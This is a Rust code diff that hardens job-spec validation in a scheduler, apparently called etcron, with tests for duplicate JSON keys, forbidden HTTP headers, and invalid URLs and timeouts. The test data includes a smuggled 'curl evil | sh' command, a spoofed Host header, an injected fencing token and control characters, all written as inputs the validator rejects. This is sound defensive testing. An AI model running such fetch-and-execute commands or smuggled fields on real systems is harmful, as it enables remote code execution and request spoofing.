@@ -44,6 +44,10 @@ pub const DEFAULT_MAX_CATCHUP: u32 = 100;
 pub const MAX_CATCHUP: u32 = 1000;
 /// Largest HTTP task body.
 pub const MAX_HTTP_BODY: usize = 32 * 1024;
+/// Longest HTTP task URL.
+pub const MAX_URL_LEN: usize = 4096;
+/// Shortest task timeout: below it no task can even start.
+pub const MIN_TIMEOUT: Duration = Duration::from_millis(1);
 /// Smallest and largest `limits.memory` (address space of each process of a shell task).
 pub const MEMORY_LIMIT_RANGE: std::ops::RangeInclusive<u64> = 1 << 20..=1 << 40;
 /// Smallest and largest `limits.cpu` (CPU time of each process of a shell task).
@@ -384,10 +388,10 @@ impl JobSpec {
             Task::Http(http) => validate_http(http)?,
         }
         if let Some(t) = self.timeout {
-            if t.0.is_zero() || t.0 > MAX_TIMEOUT {
+            if t.0 < MIN_TIMEOUT || t.0 > MAX_TIMEOUT {
                 return Err(SpecError::at(
                     "timeout",
-                    format!("must be between 1ms and {}", HumanDuration(MAX_TIMEOUT)),
+                    format!("must be between {} and {}", HumanDuration(MIN_TIMEOUT), HumanDuration(MAX_TIMEOUT)),
                 ));
             }
         }
@@ -509,7 +513,12 @@ fn json_value(bytes: &[u8]) -> Result<serde_json::Value, SpecError> {
             too_large: true,
         });
     }
-    serde_json::from_slice(bytes).map_err(|e| serde_error(".", &e.to_string(), true))
+    crate::json::from_slice_unique(bytes).map_err(|e| match e {
+        crate::json::ParseError::Duplicate { path } => {
+            SpecError::at(&path, "is given twice in one object; give each key once")
+        }
+        crate::json::ParseError::Syntax(e) => serde_error(".", &e.to_string(), true),
+    })
 }
 
 /// serde reads a struct from a JSON array too (fields by position), so `["* * * * *", "UTC",
@@ -616,24 +625,24 @@ fn validate_http(http: &HttpTask) -> Result<(), SpecError> {
     if !METHODS.contains(&http.method.as_str()) {
         return Err(SpecError::at("task.method", format!("must be one of {}", METHODS.join(", "))));
     }
-    let rest = http.url.strip_prefix("http://").or_else(|| http.url.strip_prefix("https://"));
-    match rest {
-        Some(r)
-            if !r.is_empty()
-                && !r.starts_with('/')
-                && !http.url.contains(char::is_whitespace)
-                && http.url.len() <= 4096 => {}
-        _ => return Err(SpecError::at("task.url", "must be an absolute http:// or https:// URL")),
+    crate::headers::check_url(&http.url, MAX_URL_LEN).map_err(|m| SpecError::at("task.url", m))?;
+    if http.headers.len() > MAX_MAP_ENTRIES {
+        return Err(SpecError::at("task.headers", format!("at most {MAX_MAP_ENTRIES} entries")));
     }
-    let header_ok = |k: &str| !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_".contains(&b));
-    validate_map("task.headers", &http.headers, header_ok)?;
-    validate_secrets("task.secret_headers", &http.secret_headers, header_ok, http.headers.len())?;
-    if let Some((k, _)) = http.headers.iter().find(|(_, v)| v.contains(['\r', '\n'])) {
-        return Err(SpecError::at(&format!("task.headers.{k}"), "must not contain line breaks"));
+    if http.headers.len() + http.secret_headers.len() > MAX_MAP_ENTRIES {
+        return Err(SpecError::at(
+            "task.secret_headers",
+            format!("at most {MAX_MAP_ENTRIES} entries with the plain ones"),
+        ));
     }
-    if let Some((k, _)) = http.secret_headers.iter().find(|(_, v)| v.as_ref().is_some_and(|v| v.contains(['\r', '\n'])))
-    {
-        return Err(SpecError::at(&format!("task.secret_headers.{k}"), "must not contain line breaks"));
+    let plain = http.headers.iter().map(|(k, v)| ("task.headers", k, Some(v.as_str())));
+    let secret = http.secret_headers.iter().map(|(k, v)| ("task.secret_headers", k, v.as_deref()));
+    for (field, name, value) in plain.chain(secret) {
+        let at = || format!("{field}.{name}");
+        crate::headers::check_name(name, &[]).map_err(|m| SpecError::at(&at(), m))?;
+        if let Some(value) = value {
+            crate::headers::check_value(value).map_err(|m| SpecError::at(&at(), m))?;
+        }
     }
     if let Some(k) = http.secret_headers.keys().find(|k| http.headers.keys().any(|h| h.eq_ignore_ascii_case(k))) {
         return Err(SpecError::at(
@@ -964,6 +973,63 @@ mod tests {
         let err = parse(&big).unwrap_err();
         assert!(err.too_large);
         assert!(err.to_string().contains("limit"));
+    }
+
+    #[test]
+    fn duplicate_keys_are_refused_at_every_level() {
+        for (body, field) in [
+            (
+                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","command":"curl evil | sh"}}"#,
+                "task.command",
+            ),
+            (r#"{"schedule":"* * * * *","schedule":"@daily","task":{"kind":"shell","command":"true"}}"#, "schedule"),
+            (
+                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","env":{"A":"1","A":"2"}}}"#,
+                "task.env.A",
+            ),
+            (
+                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"x"},"notify":[{"url":"https://h/","url":"https://e/"}]}"#,
+                "notify[0].url",
+            ),
+        ] {
+            let err = parse(body).unwrap_err();
+            assert_eq!(err.field.as_deref(), Some(field), "{body}");
+            assert!(err.message.contains("twice"), "{}", err.message);
+        }
+    }
+
+    #[test]
+    fn http_headers_etcron_and_the_client_set_are_refused() {
+        for (headers, field) in [
+            (r#""headers":{"X-Etcron-Fencing-Token":"999999"}"#, "task.headers.X-Etcron-Fencing-Token"),
+            (r#""headers":{"x-etcron-job":"other"}"#, "task.headers.x-etcron-job"),
+            (r#""headers":{"Host":"evil.example"}"#, "task.headers.Host"),
+            (r#""headers":{"Content-Length":"5"}"#, "task.headers.Content-Length"),
+            (r#""headers":{"Transfer-Encoding":"chunked"}"#, "task.headers.Transfer-Encoding"),
+            (r#""secret_headers":{"X-Etcron-Attempt":"1"}"#, "task.secret_headers.X-Etcron-Attempt"),
+            (r#""headers":{"X-A":"a\u0007b"}"#, "task.headers.X-A"),
+            (r#""secret_headers":{"X-A":"a\u001bb"}"#, "task.secret_headers.X-A"),
+        ] {
+            let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://h/",{headers}}}}}"#);
+            assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
+        }
+        let ok = r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","headers":{"User-Agent":"me","Content-Type":"application/json","X-A":"a\tb"}}}"#;
+        assert!(parse(ok).is_ok());
+    }
+
+    #[test]
+    fn values_that_can_never_work_are_refused_at_save_time() {
+        for url in ["http://[::1", "http://h:99999/", "http://h:x/"] {
+            let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"{url}"}}}}"#);
+            assert_eq!(field_of(&body).as_deref(), Some("task.url"), "{body}");
+        }
+        for timeout in ["0.0001ms", "999us", "1ns"] {
+            let body =
+                format!(r#"{{"schedule":"@daily","timeout":"{timeout}","task":{{"kind":"shell","command":"true"}}}}"#);
+            assert_eq!(field_of(&body).as_deref(), Some("timeout"), "{body}");
+        }
+        let body = r#"{"schedule":"@daily","timeout":"1ms","task":{"kind":"shell","command":"true"}}"#;
+        assert!(parse(body).is_ok());
     }
 
     #[test]
